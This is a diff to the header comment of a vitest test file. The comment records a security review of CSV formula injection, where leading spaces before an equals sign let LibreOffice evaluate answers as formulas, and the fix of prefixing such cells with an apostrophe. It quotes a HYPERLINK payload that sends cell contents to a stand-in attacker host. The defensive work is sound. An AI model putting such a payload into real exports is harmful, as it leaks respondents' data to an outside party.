@@ -1,7 +1,7 @@
 // Seventh review (2026-11-28, docs/security-review.md): the CSV exports and the sheet preset
 // neutralised a text starting with `= + - @`, tab or CR, but LibreOffice (`soffice
 // --convert-to xlsx` of the owner's export, formulas evaluated as its CSV import does) read
-// ` =1+1` and `\ufeff=1+1` as formulas: an anonymous answer ` =HYPERLINK("https://evil.example/?"&B2)`
+// ` =1+1` (any number of spaces) as a formula: an anonymous answer ` =HYPERLINK("https://evil.example/?"&B2)`
 // was a live formula in the owner's sheet. Spaces, line breaks and a BOM before the
 // sign now get the `'` too, on both CSV writers (the database's COPY and the batched one).
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
